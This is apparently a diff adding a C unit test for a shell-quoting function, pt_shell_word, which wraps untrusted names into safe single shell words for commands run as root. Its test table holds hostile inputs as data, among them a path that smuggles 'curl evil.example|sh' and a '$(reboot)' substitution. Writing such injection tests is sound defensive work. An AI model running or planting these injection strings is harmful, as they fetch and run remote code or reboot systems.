@@ -11,6 +11,31 @@ static void expect(const char *template, const char *expected)
 	assert_string_equal(text, expected);
 }
 
+/* Names of others stand in commands for root. */
+static void a_command_holds_one_word(void **state)
+{
+	static const char *const words[][2] = {
+		{"/mnt/data", "/mnt/data"},
+		{"/mnt/my disk", "'/mnt/my disk'"},
+		{"/tmp/x;curl evil.example|sh #", "'/tmp/x;curl evil.example|sh #'"},
+		{"it's", "'it'\\''s'"},
+		{"$(reboot)", "'$(reboot)'"},
+		{"a\\b", "'a\\b'"},
+		{"-rf", "'-rf'"},
+		{"", "''"},
+	};
+	static const char *const unshown[] = {"a\nb", "\x1b[2J", "gr\xc3\xbc\xc3\x9f", "a?b"};
+
+	(void)state;
+	for (size_t i = 0; i < PT_ARRAY_SIZE(words); i++) {
+		PT_FREE char *word = pt_shell_word(words[i][0]);
+
+		assert_string_equal(word, words[i][1]);
+	}
+	for (size_t i = 0; i < PT_ARRAY_SIZE(unshown); i++)
+		assert_null(pt_shell_word(unshown[i]));
+}
+
 static void words_are_filled_in(void **state)
 {
 	(void)state;
@@ -60,6 +85,7 @@ static void templates_are_alike_by_their_own_words(void **state)
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
+		cmocka_unit_test(a_command_holds_one_word),
 		cmocka_unit_test(words_are_filled_in),
 		cmocka_unit_test(a_part_goes_with_its_words),
 		cmocka_unit_test(the_rest_is_plain_text),
